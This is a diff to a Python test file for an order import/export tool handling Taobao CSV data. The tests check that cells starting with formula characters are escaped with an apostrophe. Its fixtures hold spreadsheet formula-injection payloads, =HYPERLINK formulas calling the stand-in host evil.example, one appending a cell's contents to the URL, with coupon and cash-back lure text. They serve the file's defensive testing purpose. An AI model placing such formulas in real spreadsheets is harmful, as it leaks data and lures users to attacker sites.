@@ -25,6 +25,9 @@ from guanxi.web.exports.xlsx import Column, Sheet, workbook
 from tests.imports.exports import PAID, TWO_ORDERS, taobao_row, write_taobao_orders
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我领券")'
+# A review's own formula: the buyer's name (LINK, above) inside a review is masked as the
+# personal data it is before any writer sees it.
+REVIEW_LINK = '=HYPERLINK("http://evil.example/r","好评返现")'
 QUOTED_LINK = '"' + LINK.replace('"', '""') + '"'  # as a CSV cell
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
 
@@ -102,15 +105,17 @@ def test_import_report_and_rejects_neutralise_the_file_values(tmp_path: Path, la
     with pytest.raises(SystemExit):
         call_command("import", "orders", str(path), "--format", "json", stdout=StringIO())
     folder = services.workdir(ImportRun.objects.get())
-    report = (folder / services.REPORT).read_text(encoding="utf-8-sig")
-    rejects = (folder / services.REJECTS).read_text(encoding="utf-8-sig")
+    # What the web download writes, decrypted from the run's encrypted files.
+    report = "".join(services.report_lines(folder))
+    rejects = "".join(services.rejects_lines(folder))
     assert live_formulas(report) == [] and live_formulas(rejects) == []
     report_rows = list(csv.reader(io.StringIO(report)))
     assert [r[3] for r in report_rows[1:]] == ["'=1+2"]
     reject_cells = next(csv.reader(io.StringIO(rejects.splitlines()[1])))
     assert {"'=1+2", "'@tb_x", "'" + LINK} <= set(reject_cells)
-    # The web download writes the same lines.
-    assert "".join(services.report_lines(folder)).splitlines() == report.splitlines()
+    # The command line wrote the same report beside the imported file.
+    beside = (tmp_path / "bad.csv-report.csv").read_text(encoding="utf-8-sig")
+    assert beside.splitlines() == report.splitlines()
 
 
 # --- `guanxi report agents --format csv`, agents and teams --------------------------------
@@ -225,7 +230,8 @@ def test_taobao_export_neutralises_names_chats_reviews_and_reasons(
             tmp_path / "v.csv",
             [
                 ["评价编号", "订单编号", "宝贝ID", "买家会员名", "评价时间", "评分", "评价内容"],
-                ["v1", "2407181234567890123", "p1", "tb_小王", "2024-06-20 10:00:00", "5", LINK],
+                ["v1", "2407181234567890123", "p1", "tb_小王", "2024-06-20 10:00:00", "5",
+                 REVIEW_LINK],
             ],
         ),
     }  # fmt: skip
@@ -250,7 +256,7 @@ def test_taobao_export_neutralises_names_chats_reviews_and_reasons(
         "s1,tb_小王,,客户,2024-06-18 10:00:00,'=1+1",
         "s1,tb_小王,小美,客服,2024-06-18 10:00:20,'=2+2",
     ]
-    assert "'" + LINK in next(csv.reader([texts["评价.csv"].splitlines()[1]]))
+    assert "'" + REVIEW_LINK in next(csv.reader([texts["评价.csv"].splitlines()[1]]))
 
     # The importer reads the apostrophe away: the exported chats re-import unchanged.
     out = StringIO()
